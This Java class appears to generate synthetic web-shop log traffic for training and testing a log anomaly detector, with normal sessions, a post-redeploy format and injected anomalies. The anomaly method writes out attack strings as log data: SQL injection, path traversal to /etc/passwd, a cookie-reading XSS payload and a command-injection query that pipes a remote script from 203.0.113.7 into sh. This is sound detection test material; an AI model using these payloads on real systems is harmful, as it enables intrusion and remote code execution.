package dev.surprisal.demo;

import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.function.BooleanSupplier;

/**
 * Application log traffic from a web shop: user sessions of log lines (login, browsing, search,
 * cart, checkout, logout), deterministic for a seed. A share of events is replaced by lines any
 * operator would call anomalous: injection attempts, path traversal, stack traces, an exhausted
 * connection pool, brute-force logins, binary junk.
 */
public final class TrafficGenerator {

    /** One generated log line. {@code anomaly} names the kind of anomaly, or is null for a normal line. */
    public record Line(String sessionId, String text, boolean endOfSession, String anomaly) {
    }

    private static final String[] CATEGORIES = {"books", "garden", "kitchen", "toys", "audio", "shoes", "sports"};
    private static final String[] WORDS = {"lamp", "kettle", "headphones", "novel", "tent", "sneakers", "drill",
        "blender", "puzzle", "speaker", "jacket", "mug", "backpack", "chair"};
    private static final String[] METHODS = {"password", "password", "password", "sso", "token"};

    private final Random random;
    private final double anomalyRate;
    private final boolean shifted;
    private BooleanSupplier newFeature = () -> false;
    /** The service that logs a new feature's line once it is out: legitimate, and unlike anything seen before. */
    static final String NEW_FEATURE = "svc=checkout-v3";

    public TrafficGenerator(long seed, double anomalyRate) {
        this(seed, anomalyRate, false);
    }

    /**
     * @param shifted traffic after a redeploy: the shop's v2 services log key=value lines with new
     *                components, endpoints and fields, so a model of the old traffic finds every line surprising
     */
    public TrafficGenerator(long seed, double anomalyRate, boolean shifted) {
        this.random = new Random(seed);
        this.anomalyRate = anomalyRate;
        this.shifted = shifted;
    }

    /** From when {@code on} says so, half the v2 sessions also log the one-click checkout feature. */
    TrafficGenerator withNewFeature(BooleanSupplier on) {
        this.newFeature = on;
        return this;
    }

    /** Normal sessions only, as training text: each a list of event texts in order. */
    public List<List<String>> normalSessions(int count) {
        List<List<String>> sessions = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            sessions.add(session(userId()));
        }
        return sessions;
    }

    /**
     * An endless stream of lines from {@code concurrent} interleaved sessions; every session ends
     * with a logout line flagged as the end of the session.
     */
    public Iterator<Line> stream(int concurrent) {
        return new Iterator<>() {
            private final List<String> ids = new ArrayList<>();
            private final List<List<String>> pending = new ArrayList<>();

            @Override
            public boolean hasNext() {
                return true;
            }

            @Override
            public Line next() {
                while (ids.size() < concurrent) {
                    String user = userId();
                    ids.add("user-" + user.substring(1) + "-" + Integer.toHexString(random.nextInt(0x10000)));
                    pending.add(new ArrayList<>(session(user)));
                }
                int pick = random.nextInt(ids.size());
                String session = ids.get(pick);
                List<String> lines = pending.get(pick);
                String text = lines.remove(0);
                boolean end = lines.isEmpty();
                if (end) {
                    ids.remove(pick);
                    pending.remove(pick);
                }
                if (!end && random.nextDouble() < anomalyRate) {
                    String[] anomaly = anomaly();
                    return new Line(session, anomaly[1], false, anomaly[0]);
                }
                return new Line(session, text, end, null);
            }
        };
    }

    private List<String> session(String user) {
        return shifted ? sessionV2(user) : sessionV1(user);
    }

    private List<String> sessionV2(String user) {
        List<String> lines = new ArrayList<>();
        String trace = Long.toHexString(random.nextLong() & 0xffffffffL);
        lines.add(v2("info", "identity", "session.start user=" + user + " region=eu-" + (1 + random.nextInt(3))
                + " mfa=" + (random.nextBoolean() ? "totp" : "none"), trace));
        if (newFeature.getAsBoolean() && random.nextBoolean()) {
            lines.add("level=info " + NEW_FEATURE + " event={\"feature\":\"one-click-pay\",\"wallet\":\""
                    + (random.nextBoolean() ? "card" : "paypal") + "\",\"ok\":true} trace=" + trace);
        }
        int actions = 3 + random.nextInt(8);
        for (int i = 0; i < actions; i++) {
            int item = 10000 + random.nextInt(90000);
            switch (random.nextInt(5)) {
                case 0 -> lines.add(v2("info", "catalog-v2", "http.get path=/v2/items/" + item + " status=200 dur_ms="
                        + latency(), trace));
                case 1 -> lines.add(v2("info", "recommend", "served slot=home items=" + (3 + random.nextInt(6))
                        + " model=rec-" + (1 + random.nextInt(4)), trace));
                case 2 -> lines.add(v2("debug", "inventory", "reserve item=" + item + " qty=" + (1 + random.nextInt(3))
                        + " warehouse=wh-" + (1 + random.nextInt(5)), trace));
                case 3 -> lines.add(v2("info", "search-v2", "query q=" + WORDS[random.nextInt(WORDS.length)]
                        + " hits=" + random.nextInt(80) + " dur_ms=" + latency(), trace));
                default -> lines.add(v2("info", "basket", "add item=" + item + " basket=b-" + trace.substring(0, 4),
                        trace));
            }
        }
        lines.add(v2("info", "identity", "session.end user=" + user + " dur_s=" + (30 + random.nextInt(2000)), trace));
        return lines;
    }

    private String v2(String level, String service, String message, String trace) {
        return "level=" + level + " svc=" + service + " " + message + " trace=" + trace;
    }

    private List<String> sessionV1(String user) {
        List<String> lines = new ArrayList<>();
        String ip = ip();
        lines.add(line("INFO ", "AuthService", "login ok user=" + user + " ip=" + ip + " method="
                + METHODS[random.nextInt(METHODS.length)]));
        int actions = 3 + random.nextInt(8);
        String cart = "c" + (100000 + random.nextInt(900000));
        int items = 0;
        for (int i = 0; i < actions; i++) {
            int product = 1000 + random.nextInt(9000);
            switch (random.nextInt(6)) {
                case 0 -> lines.add(line("INFO ", "CatalogController", "GET /api/products?category="
                        + CATEGORIES[random.nextInt(CATEGORIES.length)] + "&page=" + (1 + random.nextInt(5))
                        + " 200 " + latency() + "ms"));
                case 1 -> {
                    lines.add(line("INFO ", "CatalogController", "GET /api/products/" + product + " 200 "
                            + latency() + "ms"));
                    lines.add(random.nextInt(4) == 0
                            ? line("DEBUG", "ProductCache", "miss key=product:" + product + " loaded in "
                                + latency() + "ms")
                            : line("DEBUG", "ProductCache", "hit key=product:" + product));
                }
                case 2 -> lines.add(line("INFO ", "SearchController", "GET /api/search?q="
                        + WORDS[random.nextInt(WORDS.length)] + " 200 " + latency() + "ms hits=" + random.nextInt(60)));
                case 3, 4 -> {
                    items++;
                    lines.add(line("INFO ", "CartService", "add item=" + product + " qty=" + (1 + random.nextInt(3))
                            + " cart=" + cart));
                }
                default -> lines.add(line("INFO ", "CatalogController", "GET /api/products/" + product
                        + "/reviews 200 " + latency() + "ms"));
            }
        }
        if (items > 0 && random.nextInt(3) > 0) {
            String order = "o" + (1000000 + random.nextInt(9000000));
            String amount = String.format(Locale.ROOT, "%.2f", 5 + random.nextInt(30000) / 100.0 * items);
            lines.add(line("INFO ", "OrderService", "order " + order + " placed items=" + items + " total="
                    + amount + " EUR"));
            lines.add(line("INFO ", "PaymentGateway", "charge ok order=" + order + " amount=" + amount
                    + " EUR card=****" + (1000 + random.nextInt(9000))));
        }
        lines.add(line("INFO ", "AuthService", "logout user=" + user + " after " + (1 + random.nextInt(45)) + "m"));
        return lines;
    }

    private String[] anomaly() {
        return switch (random.nextInt(8)) {
            case 0 -> new String[] {"sql-injection", line("INFO ", "CatalogController",
                    "GET /api/products?id=1' OR '1'='1' -- 200 " + latency() + "ms")};
            case 1 -> new String[] {"path-traversal", line("INFO ", "CatalogController",
                    "GET /../../../../etc/passwd 404 1ms")};
            case 2 -> new String[] {"exception", line("ERROR", "OrderService",
                    "java.lang.NullPointerException: Cannot invoke \"Cart.items()\" because \"cart\" is null")};
            case 3 -> new String[] {"pool-exhausted", line("ERROR", "HikariPool",
                    "Connection is not available, request timed out after 30000ms (active=50, idle=0, waiting="
                    + (100 + random.nextInt(400)) + ")")};
            case 4 -> new String[] {"brute-force", line("WARN ", "AuthService",
                    "login failed user=admin ip=" + ip() + " attempt=" + (20 + random.nextInt(80)))};
            case 5 -> new String[] {"xss", line("INFO ", "SearchController",
                    "GET /api/search?q=<script>alert(document.cookie)</script> 200 " + latency() + "ms hits=0")};
            case 6 -> new String[] {"binary-junk", "\u0000\u0000\u00ff\u00feMZ\u0090\u0000\u0003\u0000\u0000\u0000"
                    + "\u0004\u0000\u00b8\u0000 This program cannot be run in DOS mode"};
            default -> new String[] {"shell-command", line("INFO ", "SearchController",
                    "GET /api/search?q=;curl http://203.0.113.7/x.sh|sh 200 " + latency() + "ms hits=0")};
        };
    }

    private String line(String level, String component, String message) {
        return level + " [exec-" + (1 + random.nextInt(16)) + "] " + component + ": " + message;
    }

    private String userId() {
        return "u" + (1000 + random.nextInt(9000));
    }

    private String ip() {
        return "10." + random.nextInt(4) + "." + random.nextInt(256) + "." + (1 + random.nextInt(254));
    }

    private int latency() {
        return 2 + (int) Math.round(Math.abs(random.nextGaussian()) * 40);
    }
}
